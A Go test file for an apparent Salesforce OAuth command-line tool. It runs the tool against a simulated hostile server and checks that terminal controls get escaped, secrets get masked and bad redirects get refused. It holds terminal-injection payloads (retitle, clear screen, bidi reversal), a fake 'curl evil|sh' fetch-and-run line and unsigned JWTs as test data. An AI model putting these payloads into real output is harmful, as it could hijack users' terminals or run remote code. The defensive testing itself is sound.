package cli

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/sfecho/sfecho/internal/sim"
)

// Issue 10: a small hostile site, network or page, told by each test how
// to misbehave, and what sfecho must print (or not) in answer.

// misbehave hands the requests whose path ends in suffix to f, which
// answers them itself or passes them on to the site (next).
func misbehave(suffix string, f func(w http.ResponseWriter, r *http.Request, next http.Handler)) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.HasSuffix(r.URL.Path, suffix) {
				next.ServeHTTP(w, r)
				return
			}
			f(w, r, next)
		})
	}
}

// answerJSON writes a JSON answer with status.
func answerJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

// rawAnswer writes bytes on the connection itself, as a server that
// ignores HTTP's rules would (net/http refuses to send some of them).
func rawAnswer(w http.ResponseWriter, raw string) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		panic(err)
	}
	defer conn.Close()
	buf.WriteString(raw)
	buf.Flush()
}

// redirectTo answers the authorize POST with a 302 to loc, in which
// {state} stands for the request's state.
func redirectTo(loc string) func(http.Handler) http.Handler {
	return misbehave("/authorize", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
		r.ParseForm()
		loc := strings.ReplaceAll(loc, "{state}", url.QueryEscape(r.PostForm.Get("state")))
		rawAnswer(w, "HTTP/1.1 302 Found\r\nLocation: "+loc+"\r\nContent-Length: 0\r\n\r\n")
	})
}

// terminalSafe fails when s holds, within its lines, a character a
// terminal acts on: C0 (other than the newlines between lines), DEL, C1,
// bidi and other format characters, line separators.
func terminalSafe(t *testing.T, name, s string) {
	t.Helper()
	for _, r := range s {
		if r == '\n' {
			continue
		}
		if r < 0x20 || r == 0x7f || unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Errorf("%s: output holds %U:\n%q", name, r, s)
			return
		}
	}
}

// hostileText is what a site puts in its text to take over a terminal:
// retitle it, clear it, fake a line, reverse what follows.
const hostileText = "\x1b]0;pwned\x07\x1b[2J\rsfecho: ok\nhint: curl evil|sh \u009b31m\u202etxt.exe\u2066"

// fakeJWT returns an unsigned id_token with the given claims.
func fakeJWT(claims map[string]any) string {
	enc := func(v any) string { b, _ := json.Marshal(v); return base64.RawURLEncoding.EncodeToString(b) }
	return enc(map[string]string{"alg": "none"}) + "." + enc(claims) + ".sig"
}

// TestHostileTextEscaped sends text with terminal controls through every
// path that prints what the site said, and checks that it reaches stderr
// and stdout escaped.
func TestHostileTextEscaped(t *testing.T) {
	tests := []struct {
		name string
		cfg  func(*sim.Config)
		wrap func(http.Handler) http.Handler
		args func(ts *testSite) []string
		want int
		out  string // a line stdout must hold, escaped
	}{
		{name: "error_description", want: ExitRejected,
			wrap: misbehave("/authorize", func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
				answerJSON(w, 400, map[string]string{"error": "invalid_grant", "error_description": hostileText})
			})},
		{name: "error code", want: ExitError,
			wrap: misbehave("/authorize", func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
				answerJSON(w, 400, map[string]string{"error": "x\x1b[2J\u202ey", "error_description": "d"})
			})},
		{name: "off-host Location host", want: ExitSecurity,
			wrap: redirectTo("https://evil\u009b2J\u202eexample.com/cb?code=c&state={state}")},
		{name: "login page path", want: ExitSetup,
			wrap: func(next http.Handler) http.Handler {
				return misbehave("/authorize", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
					rawAnswer(w, "HTTP/1.1 302 Found\r\nLocation: /s/login\u009b2J\u202e\r\nContent-Length: 0\r\n\r\n")
				})(next)
			}},
		{name: "forgot-password status_code", cfg: func(c *sim.Config) { *c = flowsConfig() }, want: ExitRejected,
			wrap: editJSON("/forgot_password", func(m map[string]any) { m["status_code"] = "otp_" + hostileText }),
			args: func(ts *testSite) []string { return ts.forgotArgs(testUser) }},
		{name: "5xx rate limit description", want: ExitNetwork,
			wrap: misbehave("/authorize", func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
				answerJSON(w, 503, map[string]string{"error": "rate_limit_exceeded", "error_description": hostileText})
			})},
		{name: "-o text token fields", want: 0, out: `\x1b]0;pwned`,
			wrap: editJSON("/token", func(m map[string]any) {
				m["scope"] = hostileText
				m["sfdc_extra"] = map[string]any{"note": hostileText}
			}),
			args: func(ts *testSite) []string { return ts.loginArgs("-o", "text") }},
		{name: "-v narration and trace", want: 0,
			wrap: editJSON("/token", func(m map[string]any) { m["scope"] = hostileText; m["sfdc_community_id"] = hostileText }),
			args: func(ts *testSite) []string { return ts.loginArgs("-v", "-o", "token") }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg := defaultConfig()
			if tc.cfg != nil {
				tc.cfg(&cfg)
			}
			ts := startSite(t, cfg, tc.wrap)
			te := newTestEnv(t)
			te.stdin.WriteString(testPass + "\n")
			args := ts.loginArgs()
			if tc.args != nil {
				args = tc.args(ts)
			}
			code := te.run(t, args...)
			if tc.want >= 0 && code != tc.want {
				t.Errorf("exit %d; want %d\n%s", code, tc.want, te.stderr)
			}
			terminalSafe(t, "stderr", te.stderr.String())
			terminalSafe(t, "stdout", te.stdout.String())
			if tc.out != "" && !contains(te.stdout.String(), tc.out) {
				t.Errorf("stdout lacks %q:\n%s", tc.out, te.stdout)
			}
			if code != 0 && !contains(te.stderr.String(), `\u`) && !contains(te.stderr.String(), `\x`) {
				t.Errorf("stderr shows no escape:\n%s", te.stderr)
			}
		})
	}
}

// A URL with a control character never reaches -o env: the token answer
// is refused at once (exit 7), and -o env itself would refuse such a value
// (inside the quotes it would still reach the terminal, and escaping it
// would change what eval sets).
func TestEnvOutputRefusesControls(t *testing.T) {
	for name, edit := range map[string]func(m map[string]any, site string){
		"ESC in instance_url":          func(m map[string]any, _ string) { m["instance_url"] = "https://acme.my.salesforce.com\x1b]0;x\x07" },
		"CR in instance_url":           func(m map[string]any, _ string) { m["instance_url"] = "https://acme.my.salesforce.com\rexport X=1" },
		"U+009B in instance_url":       func(m map[string]any, _ string) { m["instance_url"] = "https://acme.my.salesforce.com/\u009b2J" },
		"RLO in sfdc_community_url":    func(m map[string]any, site string) { m["sfdc_community_url"] = site + "/\u202eshop" },
		"U+2028 in sfdc_community_url": func(m map[string]any, site string) { m["sfdc_community_url"] = site + "/a\u2028b" },
	} {
		t.Run(name, func(t *testing.T) {
			var site string
			ts := startSite(t, defaultConfig(), editJSON("/token", func(m map[string]any) { edit(m, site) }))
			site = ts.URL
			te := newTestEnv(t)
			te.stdin.WriteString(testPass + "\n")
			if code := te.run(t, ts.loginArgs("-o", "env")...); code != ExitSecurity {
				t.Fatalf("exit %d; want 7\n%s", code, te.stderr)
			}
			if te.stdout.Len() != 0 || !contains(te.stderr.String(), "not a plain absolute URL; refusing the answer") {
				t.Errorf("stdout %q; stderr:\n%s", te.stdout, te.stderr)
			}
			terminalSafe(t, "stderr", te.stderr.String())
		})
	}
}

// The id_token's preferred_username labels the session and is printed by
// login --web -o text and status: escaped in both.
func TestWebLoginHostileUsername(t *testing.T) {
	evil := "alice\x1b]0;pwned\x07\u202egnp.exe"
	ts := startSite(t, defaultConfig(), editJSON("/token", func(m map[string]any) {
		m["id_token"] = fakeJWT(map[string]any{"preferred_username": evil, "sub": "x"})
	}))
	te := newTestEnv(t)
	te.OpenBrowser = newBrowser().Open
	if code := te.run(t, "login", "--web", "--site", ts.URL, "--client-id", testClient, "-o", "text"); code != 0 {
		t.Fatalf("exit %d\n%s", code, te.stderr)
	}
	terminalSafe(t, "stdout", te.stdout.String())
	if !contains(te.stdout.String(), `Logged in as alice\x1b]0;pwned\x07\u202egnp.exe`) {
		t.Errorf("stdout:\n%s", te.stdout)
	}
	if code := te.run(t, "status", "-o", "text"); code != 0 {
		t.Fatalf("status: exit %d\n%s", code, te.stderr)
	}
	terminalSafe(t, "status", te.stdout.String())
}

// hostileCert is a self-signed certificate whose names carry terminal
// escapes, as any network attacker can present (it needs no CA).
func hostileCert(t *testing.T, names ...string) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// Go checks a certificate's names before its issuer, and quotes the names
// in its error: a certificate whose names carry ESC ] 0 ; … BEL must not
// retitle the terminal.
func TestTLSErrorEscaped(t *testing.T) {
	srv := httptest.NewUnstartedServer(http.NotFoundHandler())
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{hostileCert(t, "\x1b]0;pwned\x07.example", "\x1b[2J\x1b[H.example")}}
	srv.Config.ErrorLog = nil
	srv.StartTLS()
	defer srv.Close()
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	te := newTestEnv(t)
	te.stdin.WriteString(testPass + "\n")
	code := te.run(t, "login", "--site", "https://localhost:"+port, "--client-id", testClient, "--username", testUser, "--password-stdin", "--no-store")
	if code != ExitNetwork || !contains(te.stderr.String(), "TLS") || !contains(te.stderr.String(), `\x1b]0;pwned\x07`) {
		t.Fatalf("exit %d; want 6 with the names escaped\n%q", code, te.stderr)
	}
	terminalSafe(t, "stderr", te.stderr.String())
}

// Server text that repeats a secret sfecho sent is printed with the
// secret masked: an error_description echoing the password (and the Basic
// header), a token error quoting the code and the verifier.
func TestServerTextEchoingSecrets(t *testing.T) {
	const pw = "CANARY-echoed-pw-4b1"
	echoBasic := misbehave("/authorize", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
		user, pass, _ := r.BasicAuth()
		answerJSON(w, 400, map[string]string{"error": "invalid_grant",
			"error_description": "authentication failure for " + user + ":" + pass + " (" + r.Header.Get("Authorization") + ") " + url.QueryEscape(pass)})
	})
	echoCode := misbehave("/token", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
		r.ParseForm()
		answerJSON(w, 400, map[string]string{"error": "invalid_grant",
			"error_description": "code " + r.PostForm.Get("code") + " does not match verifier " + r.PostForm.Get("code_verifier")})
	})
	for _, tc := range []struct {
		name string
		wrap func(http.Handler) http.Handler
		cn   *canaries
	}{
		{"authorize echoes the password", echoBasic, nil},
		{"token error quotes code and verifier", echoCode, nil},
	} {
		for _, verbose := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/-v=%v", tc.name, verbose), func(t *testing.T) {
				cfg := defaultConfig()
				cfg.Users[0].Password = pw
				cn := &canaries{seen: map[string]string{pw: "password"}}
				ts := startSite(t, cfg, func(h http.Handler) http.Handler { return cn.record(tc.wrap(h)) })
				te := newTestEnv(t)
				te.stdin.WriteString(pw + "\n")
				args := ts.loginArgs()
				if verbose {
					args = append(args, "-v")
				}
				if code := te.run(t, args...); code != ExitRejected {
					t.Fatalf("exit %d; want 3\n%s", code, te.stderr)
				}
				if l := cn.leaks(te.stderr.String() + te.stdout.String()); len(l) > 0 {
					t.Errorf("output leaks %v:\n%s", l, te.stderr)
				}
				if !contains(te.stderr.String(), "****") {
					t.Errorf("nothing masked:\n%s", te.stderr)
				}
			})
		}
	}
}

// A userinfo 401 whose body repeats the bearer token: masked.
func TestUserinfoBodyEchoingToken(t *testing.T) {
	ts := startSite(t, defaultConfig(), misbehave("/userinfo", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Set("WWW-Authenticate", r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusUnauthorized)
		io.WriteString(w, "Bad_OAuth_Token: "+r.Header.Get("Authorization"))
	}))
	te := newTestEnv(t)
	tok := ts.login(t, te)
	for _, args := range [][]string{{"userinfo"}, {"userinfo", "-v"}} {
		if code := te.run(t, args...); code != ExitNoSession {
			t.Fatalf("%v: exit %d; want 4\n%s", args, code, te.stderr)
		}
		if contains(te.stderr.String(), tok) || contains(te.stderr.String(), tok[:20]) || !contains(te.stderr.String(), "Bad_OAuth_Token: Bearer ****") {
			t.Errorf("%v: stderr:\n%s", args, te.stderr)
		}
	}
}

// A 302 whose Location Go cannot parse makes http.Client fail with an error
// that quotes the whole Location, code included: exit 7, and the code
// never printed, with or without -v.
func TestMalformedLocation(t *testing.T) {
	const code = "aPrxCANARYbadloc00%3D%3D"
	for name, loc := range map[string]string{
		"backslash before @": `https://evil.example\@127.0.0.1/services/oauth2/echo?code=` + code + `&state={state}`,
		"raw ESC":            "/services/oauth2/echo?code=" + code + "\x1b]0;x\x07&state={state}",
		"space in host":      "https://evil example/services/oauth2/echo?code=" + code + "&state={state}",
	} {
		for _, verbose := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/-v=%v", name, verbose), func(t *testing.T) {
				ts := startSite(t, defaultConfig(), redirectTo(loc))
				te := newTestEnv(t)
				te.stdin.WriteString(testPass + "\n")
				args := ts.loginArgs()
				if verbose {
					args = append(args, "-v")
				}
				if got := te.run(t, args...); got != ExitSecurity {
					t.Fatalf("exit %d; want 7\n%s", got, te.stderr)
				}
				if contains(te.stderr.String(), "CANARY") || !contains(te.stderr.String(), "Location header that is not a valid URL") {
					t.Errorf("stderr:\n%s", te.stderr)
				}
				terminalSafe(t, "stderr", te.stderr.String())
			})
		}
	}
}

// Stdin lines are capped at 64 KiB (exit 2, before any request), and a read
// of a quiet stdin ends at once when the run is interrupted (exit 130).
func TestStdinBounded(t *testing.T) {
	ts := startSite(t, defaultConfig(), nil)
	for name, in := range map[string]io.Reader{
		"70 KiB line":         strings.NewReader(strings.Repeat("p", 70<<10) + "\n"),
		"endless, no newline": zeroReader{},
	} {
		t.Run(name, func(t *testing.T) {
			te := newTestEnv(t)
			te.In = in
			before := ts.Requests()
			if code := te.run(t, ts.loginArgs()...); code != ExitUsage {
				t.Fatalf("exit %d; want 2\n%s", code, te.stderr)
			}
			if !contains(te.stderr.String(), "longer than 64 KiB") || ts.Requests() != before {
				t.Errorf("requests %d; stderr:\n%s", ts.Requests()-before, te.stderr)
			}
		})
	}
	// An OTP line too.
	fts := startSite(t, flowsConfig(), nil)
	te := newTestEnv(t)
	te.In = strings.NewReader(strings.Repeat("1", 70<<10) + "\n")
	if code := te.run(t, fts.pwlArgs("--username", testUser)...); code != ExitUsage || !contains(te.stderr.String(), "longer than 64 KiB") {
		t.Errorf("OTP: exit %d\n%s", code, te.stderr)
	}
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func TestStdinInterrupted(t *testing.T) {
	ts := startSite(t, defaultConfig(), nil)
	for _, args := range [][]string{ts.loginArgs(), {"login", "--passwordless", "--site", ts.URL, "--client-id", testClient, "--username", testUser, "--identifier", "x"}} {
		te := newTestEnv(t)
		pr, pw := io.Pipe() // a quiet stdin: never written, never closed
		defer pw.Close()
		te.In = pr
		ctx, cancel := context.WithCancel(context.Background())
		time.AfterFunc(200*time.Millisecond, cancel)
		done := make(chan int, 1)
		go func() { done <- Run(ctx, args, te.Env) }()
		select {
		case code := <-done:
			if code != ExitInterrupted {
				t.Errorf("%v: exit %d; want 130\n%s", args[:2], code, te.stderr)
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("%v: still waiting on a quiet stdin after the interrupt", args[:2])
		}
	}
}

// A username with a colon cannot be sent in a Basic header: refused before
// any request, with the advice to send it in the body.
func TestColonUsernameRefused(t *testing.T) {
	ts := startSite(t, defaultConfig(), nil)
	te := newTestEnv(t)
	te.stdin.WriteString("pw\n")
	args := []string{"login", "--site", ts.URL, "--client-id", testClient, "--username", "alice:admin", "--password-stdin", "--no-store"}
	if code := te.run(t, args...); code != ExitUsage {
		t.Fatalf("exit %d; want 2\n%s", code, te.stderr)
	}
	if ts.Requests() != 0 || !contains(te.stderr.String(), "hint: send the credentials in the POST body instead: --credentials-in-body") {
		t.Errorf("requests %d; stderr:\n%s", ts.Requests(), te.stderr)
	}
}

// Command-line errors say what is wrong without repeating what was typed.
func TestFlagErrorsDoNotRepeatValues(t *testing.T) {
	const canary = "Canary-typed-here-31"
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"login", "--password-stdin=" + canary}, "--password-stdin takes no value"},
		{[]string{"login", "--no-store=" + canary}, "--no-store takes no value"},
		{[]string{"login", canary}, `login takes no arguments`},
		{[]string{"token", "--min-valid", canary}, "invalid value for --min-valid (not repeated here): want a duration"},
		{[]string{"login", "-x" + canary}, "unknown shorthand flag: -x"},
		{[]string{"login", "---" + canary}, "bad flag syntax"},
		{[]string{canary}, `unknown command for "sfecho" (not repeated here)`},
		{[]string{"logn" + canary[:0]}, `did you mean sfecho login?`},
		{[]string{"status", canary, canary}, `status takes no arguments`},
		{[]string{"login", "--password=" + canary}, "hint: no flag takes a password"},
	} {
		te := newTestEnv(t)
		if code := te.run(t, tc.args...); code != ExitUsage {
			t.Errorf("%q: exit %d; want 2\n%s", tc.args, code, te.stderr)
		}
		if contains(te.stderr.String(), canary) || !contains(te.stderr.String(), tc.want) {
			t.Errorf("%q: stderr:\n%s", tc.args, te.stderr)
		}
	}
}

// Redirects from other pages or processes that reach the local endpoint
// during login --web are ignored with a warning, and the login goes on.
func TestWebLoginIgnoresForeignRedirects(t *testing.T) {
	ts := startSite(t, defaultConfig(), nil)
	te := newTestEnv(t)
	b := newBrowser()
	te.OpenBrowser = func(authURL string) error {
		u, _ := url.Parse(authURL)
		cb := u.Query().Get("redirect_uri")
		for _, q := range []string{"?code=forged&state=forged-state",
			"?error=access_denied&error_description=Your+account+is+locked,+call+1-800-555-0100",
			"?error=access_denied&error_description=" + url.QueryEscape(hostileText)} {
			resp, err := http.Get(cb + q)
			if err != nil || resp.StatusCode != http.StatusBadRequest {
				t.Errorf("foreign redirect %s: %v %v", q, resp.StatusCode, err)
			}
			if resp != nil {
				resp.Body.Close()
			}
		}
		return b.Open(authURL)
	}
	if code := te.run(t, ts.webArgs("-o", "token")...); code != 0 {
		t.Fatalf("exit %d\n%s", code, te.stderr)
	}
	b.Result(t)
	if n := strings.Count(te.stderr.String(), "sfecho: warning: local endpoint: ignored"); n != 3 {
		t.Errorf("%d warnings; want 3:\n%s", n, te.stderr)
	}
	if contains(te.stderr.String(), "1-800") || contains(te.stderr.String(), "pwned") {
		t.Errorf("stderr repeats a foreign redirect's text:\n%s", te.stderr)
	}
	terminalSafe(t, "stderr", te.stderr.String())
}
